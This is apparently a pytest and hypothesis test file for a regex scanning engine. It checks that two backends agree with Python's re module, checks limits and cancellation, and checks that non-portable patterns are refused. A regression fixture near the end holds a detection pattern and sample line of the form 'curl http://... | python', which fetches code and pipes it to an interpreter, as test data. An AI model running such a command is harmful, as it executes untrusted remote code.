"""The engine of a scan and each pattern by itself must say exactly the same of every text, and what Python says."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.matching.engine import MOST_LINES_PER_FILE, compile
from core.matching.expression import BadPattern, portable
from core.matching.pattern import Pattern
from core.progress import Cancelled, Silent

PATTERNS = (
    Pattern("call", r"foo[ \t]*\("),
    Pattern("line", r"^bar$"),
    Pattern("word", r"\bQux\b", ignore_case=True),
    Pattern("address", r"\S+@[^\s@]+"),
    Pattern("rest", r"foo.*"),
    Pattern("choice", r"(?:ab|ba){2,3}c?"),
    Pattern("start", r"^[ \t]*-[ \t]+(?i:key):"),
    Pattern("digits", r"\b\d{2,4}\b"),
    Pattern("odd", r"é\w"),
    Pattern("high", r"[^a-z\n]{3}"),
    Pattern("end", r"[a-z]+;$"),
    Pattern("repeated", r"b(?:é)?a|x\xe9\w", ignore_case=True),
)
ENGINES = pytest.mark.parametrize("by_itself", [False, True], ids=["scan", "by itself"])
LETTERS = st.sampled_from([*"abfoqux QUX(;-@é1 2\t", "foo", "bar", "\n", "\n", "\r", "\r\n", "key:", "- ", "ba", "ab"])
TEXTS = st.lists(LETTERS, max_size=60).map("".join).map(str.encode)
BYTES = st.one_of(TEXTS, st.binary(max_size=40))


def found(files: list[tuple[str, bytes]], by_itself=False, patterns=PATTERNS) -> dict[str, list[tuple[str, int]]]:
    matches = compile(patterns, by_itself=by_itself).scan(files, Silent())
    return {p.name: sorted((path, line) for path, line, _ in matches.of(p)) for p in patterns}


@settings(max_examples=150, deadline=None)
@given(st.lists(BYTES, max_size=5))
def test_the_engines_agree(contents):
    files = [(f"file{i}", content) for i, content in enumerate(contents)]
    assert found(files) == found(files, by_itself=True)


@settings(max_examples=100, deadline=None)
@given(st.lists(TEXTS, max_size=4))
def test_the_engine_says_what_python_says_line_by_line(contents):
    files = [(f"file{i}", content.replace(b"\r", b"")) for i, content in enumerate(contents)]
    expected: dict[str, list[tuple[str, int]]] = {p.name: [] for p in PATTERNS}
    for pattern in PATTERNS:
        flags = re.IGNORECASE if pattern.ignore_case else 0
        compiled = re.compile(portable(pattern.regex).encode(), flags)
        for path, content in files:
            for number, line in enumerate(content.split(b"\n"), 1):
                if compiled.search(line):
                    expected[pattern.name].append((path, number))
    assert found(files) == expected


@ENGINES
def test_each_line_is_reported_once_with_its_text(by_itself):
    matches = compile([PATTERNS[4]], by_itself=by_itself).scan(
        [("a", b"x\nfoo foo foo\n\nfoofoo"), ("b", b"foo")], Silent()
    )
    assert list(matches.of(PATTERNS[4])) == [("a", 2, "foo foo foo"), ("a", 4, "foofoo"), ("b", 1, "foo")]


@ENGINES
def test_positions_hold_across_batches_and_large_files(by_itself):
    files = [(f"f{i}", b"x\n" * 300_000 + b"needle here\n" + b"y" * (i * 7)) for i in range(5)]
    pattern = Pattern("n", "needle")
    assert [(p, line) for p, line, _ in compile([pattern], by_itself=by_itself).scan(files, Silent()).of(pattern)] == [
        (f"f{i}", 300_001) for i in range(5)
    ]


@ENGINES
def test_a_flood_in_one_file_does_not_hide_the_next(by_itself):
    pattern = Pattern("n", "needle")
    files = [("flood", b"needle\n" * 5000), ("next", b"\nneedle\n")]
    hits = compile([pattern], by_itself=by_itself).scan(files, Silent()).of(pattern)
    assert len(hits) == MOST_LINES_PER_FILE + 1
    assert hits[-1][:2] == ("next", 2)


def test_a_long_line_is_cut():
    pattern = Pattern("n", "needle")
    [(_, _, text)] = compile([pattern]).scan([("min.js", b"a" * 100_000 + b"needle")], Silent()).of(pattern)
    assert text == "a" * 300


@ENGINES
def test_a_scan_stops_when_asked(by_itself):
    class Stop(Silent):
        def check(self) -> None:
            raise Cancelled

    with pytest.raises(Cancelled):
        compile(PATTERNS, by_itself=by_itself).scan([("a", b"foo(\n" * 10_000)], Stop())


@pytest.mark.parametrize(
    "regex",
    [
        r"a\sb",
        'x[^"]',
        "(?s).x",
        r"a\Wb",
        r"a\nb",
        "a\nb",
        "[a\nb]c",
        "[^a\nb]c",
        r"a\Db",
        "^",
        r"\b",
        "a*",
        "a||b",
        "(?=x)x",
        "x(?!a)",
        "(?<=a)x",
        r"(a)\1",
        "[",
        "(",
        r"\Aa",
        r"a\z",
        r"\pL",
        "[[:space:]]a",
        "x{2000}",
        r"a\x0a",
        r"[a\x0b]b",
        "[é]x",
    ],
)
@ENGINES
def test_what_is_not_safe_everywhere_is_refused_with_its_text(regex, by_itself):
    with pytest.raises(BadPattern) as caught:
        compile([Pattern("ok", "fine"), Pattern("bad", regex)], by_itself=by_itself)
    assert repr(regex) in caught.value.message


def test_no_patterns_find_nothing():
    assert compile([]).scan([("a", b"x")], Silent()).engine


# Each of these was lost by Vectorscan 5.4.12, all three by one fault: in what it skips over, the first of two letters
# that it looks for stands last (the library's issues 358 and 382).
LOST = (
    (
        ("^[ \\t]*terminationGracePeriodSeconds:", '^[ \\t]*Name:"restore"'),
        b'eCommand = cli.Command{\n\tName:"restore"',
        2,
    ),
    (('^[ \\t]*(?:Name:"restore"|terminationGracePeriodSeconds:)',), b"x" * 40 + b'\n\tName:"restore"\n', 2),
    ((r"curl[^\n]*\|[ \t]*python",), b"curl http://xxxx:8000/ 2>&1 | python", 1),
)


@ENGINES
@pytest.mark.parametrize(("regexes", "text", "line"), LOST, ids=["two patterns", "one choice", "one pattern"])
def test_lines_that_another_library_loses_are_found(by_itself, regexes, text, line):
    patterns = [Pattern(str(i), regex) for i, regex in enumerate(regexes)]
    assert found([("a", text)], by_itself, patterns)[patterns[-1].name] == [("a", line)]


@ENGINES
def test_a_pattern_is_found_wherever_in_a_file_its_line_lies(by_itself):
    pattern = Pattern("n", r"^[ \t]*needle:[ \t]+\w+$")
    for before in [*range(0, 70), *range(1970, 2130)]:
        files = [("a", b"x" * before + b"\n\tneedle: eye\n" + b"y" * 1500 + b"\nneedle: two")]
        assert found(files, by_itself, [pattern])["n"] == [("a", 2), ("a", 4)], before


@ENGINES
def test_letters_outside_ascii_count_as_one_letter_for_what_repeats_them(by_itself):
    patterns = [Pattern("one", "caf\u00e9? bar"), Pattern("byte", r"a\xe9b"), Pattern("fold", "\u00e9t\u00e9", True)]
    files = [("a", "caf bar\ncaf\u00e9 bar\n\u00e9T\u00e9".encode()), ("b", b"a\xe9b")]
    assert found(files, by_itself, patterns) == {"one": [("a", 1), ("a", 2)], "byte": [("b", 1)], "fold": [("a", 3)]}
